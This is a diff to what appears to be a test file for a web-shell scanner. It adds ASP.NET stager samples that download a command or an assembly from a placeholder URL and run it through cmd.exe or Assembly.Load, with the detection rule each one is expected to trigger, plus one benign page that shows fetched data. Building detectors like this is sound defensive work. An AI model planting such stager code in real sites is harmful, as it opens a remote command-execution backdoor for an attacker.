@@ -1,6 +1,7 @@
 """Code fetched from another server and run: a stager page that downloads an assembly, a script
 or source code from a fixed URL (`WebClient.DownloadData`/`DownloadString`, `HttpClient`'s
-`GetByteArrayAsync`/`GetStringAsync`) and loads, evaluates, compiles or runs it. What a download
+`GetByteArrayAsync`/`GetStringAsync`, or the body of a response it received: `WebResponse`'s
+`GetResponseStream`, `HttpContent`'s `ReadAs...Async`) and loads, evaluates, compiles or runs it. What a download
 returns is the far server's to choose, as what a socket reads is: it counts where it is run as
 code or as a command, and only there. Pages that download data and show it, cache it or parse
 it stay quiet."""
@@ -59,6 +60,36 @@ SHELLS = [
         "EXH-WS-CODE-PROCESS",
         [f"the file downloaded from {URL}.ps1", "runs it as a command"],
     ),
+    (
+        "beacon.aspx",
+        cs_page(
+            f'var req = (System.Net.HttpWebRequest)System.Net.WebRequest.Create("{URL}/task");\n'
+            "string task = new System.IO.StreamReader(req.GetResponse().GetResponseStream()).ReadToEnd();\n"
+            'System.Diagnostics.Process.Start("cmd.exe", "/c " + task);'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["the body of a web response", "runs it as a command"],
+    ),
+    (
+        "stream-dll.aspx",
+        cs_page(
+            "var ms = new System.IO.MemoryStream();\n"
+            f'System.Net.WebRequest.Create("{URL}.dll").GetResponse().GetResponseStream().CopyTo(ms);\n'
+            "System.Reflection.Assembly.Load(ms.ToArray()).EntryPoint.Invoke(null, null);"
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["the body of a web response", "loads it as an assembly"],
+    ),
+    (
+        "content.aspx",
+        cs_page(
+            "var c = new System.Net.Http.HttpClient();\n"
+            f'var b = c.GetAsync("{URL}.bin").Result.Content.ReadAsByteArrayAsync().Result;\n'
+            'System.Reflection.Assembly.Load(b).CreateInstance("Stage");'
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["the body of a web response"],
+    ),
 ]
 
 
@@ -89,6 +120,14 @@ BENIGN = [
             "var c = new System.Net.Http.HttpClient();\n"
             'string json = c.GetStringAsync("https://api.example.org/news").Result;\n'
             'Response.ContentType = "application/json"; Response.Write(json);'
+        ),
+    ),
+    (
+        "weather.aspx",
+        cs_page(
+            'var req = System.Net.WebRequest.Create("https://api.example.org/weather");\n'
+            "using (var r = new System.IO.StreamReader(req.GetResponse().GetResponseStream()))\n"
+            "{ lit.Text = Server.HtmlEncode(r.ReadToEnd()); }"
         ),
     ),
 ]
